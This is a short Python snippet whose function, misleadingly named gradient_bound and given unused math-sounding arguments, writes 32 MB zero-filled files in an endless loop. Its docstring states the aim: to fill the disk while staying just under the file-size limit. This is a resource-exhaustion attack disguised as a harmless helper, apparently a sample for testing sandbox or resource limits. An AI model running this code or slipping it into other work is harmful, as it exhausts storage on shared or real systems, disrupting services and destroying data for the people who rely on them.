"""Fill the disk with many files just under the file-size limit."""


def gradient_bound(num_layers, x):
    chunk = b"\0" * (32 * 1024 * 1024)
    index = 0
    while True:
        with open(f"fill-{index}.bin", "wb") as file:
            file.write(chunk)
        index += 1
